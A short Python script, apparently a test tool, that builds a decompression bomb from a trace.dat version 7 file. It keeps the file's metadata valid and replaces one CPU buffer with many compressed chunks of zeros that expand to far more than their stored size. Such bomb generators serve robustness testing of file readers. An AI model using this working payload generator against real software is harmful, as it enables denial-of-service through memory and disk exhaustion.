#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""A decompression bomb made of a little-endian trace.dat version 7 file (tpoint's).

usage: bomb.py IN OUT CHUNKS [MIB]

OUT is IN with its top buffer's pages replaced by CPU 0 holding CHUNKS chunks, each MIB (4)
MiB of zeros (empty pages) compressed with the file's own codec: zstd (through the zstd command,
which Python lacks) or zlib. Everything else (the metadata sections) stays IN's, so that the
file is valid: a reader that trusts the declared sizes expands it whole. The options go into a
new, uncompressed options section at the end, which the header points at.
"""
import struct
import subprocess
import sys
import zlib



def u16(b, at):
    return struct.unpack_from("<H", b, at)[0]


def u32(b, at):
    return struct.unpack_from("<I", b, at)[0]


def u64(b, at):
    return struct.unpack_from("<Q", b, at)[0]


def zeros(codec, size):
    if codec == b"zlib":
        return zlib.compress(bytes(size), 9)
    return subprocess.run(["zstd", "-19", "-q", "-c"], input=bytes(size), check=True,
                          stdout=subprocess.PIPE).stdout


def main():
    src, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    chunk = (int(sys.argv[4]) if len(sys.argv) > 4 else 4) << 20
    b = bytearray(open(src, "rb").read())
    at = 18
    codec = bytes(b[at:b.index(b"\0", at)])
    at = b.index(b"\0", at) + 1
    at = b.index(b"\0", at) + 1
    opts_field = at
    opts = u64(b, at)
    if u16(b, opts + 2):
        sys.exit("bomb.py: the options section of %s is compressed" % src)
    kept = b""
    buffer = None
    p = opts + 16
    while True:
        oid, size = u16(b, p), u32(b, p + 2)
        if oid == 0:
            break
        if oid == 3:
            buffer = bytes(b[p + 6:p + 6 + size])
        else:
            kept += bytes(b[p:p + 6 + size])
        p += 6 + size
    if buffer is None:
        sys.exit("bomb.py: %s has no option BUFFER" % src)
    # option BUFFER: u64 section, name, clock, u32 page size, u32 count, {u32, u64, u64}...
    q = buffer.index(b"\0", 8) + 1
    q = buffer.index(b"\0", q) + 1
    head = buffer[:q + 4]
    frame = zeros(codec, chunk)
    data = struct.pack("<I", count)
    for _ in range(count):
        data += struct.pack("<II", len(frame), chunk) + frame
    data_at = len(b)
    b += data
    buffer = head + struct.pack("<IIQQ", 1, 0, data_at, len(data))
    options = kept + struct.pack("<HI", 3, len(buffer)) + buffer + struct.pack("<HIQ", 0, 8, 0)
    new_opts = len(b)
    b += struct.pack("<HHIQ", 0, 0, 0, len(options)) + options
    struct.pack_into("<Q", b, opts_field, new_opts)
    open(dst, "wb").write(b)


if __name__ == "__main__":
    main()
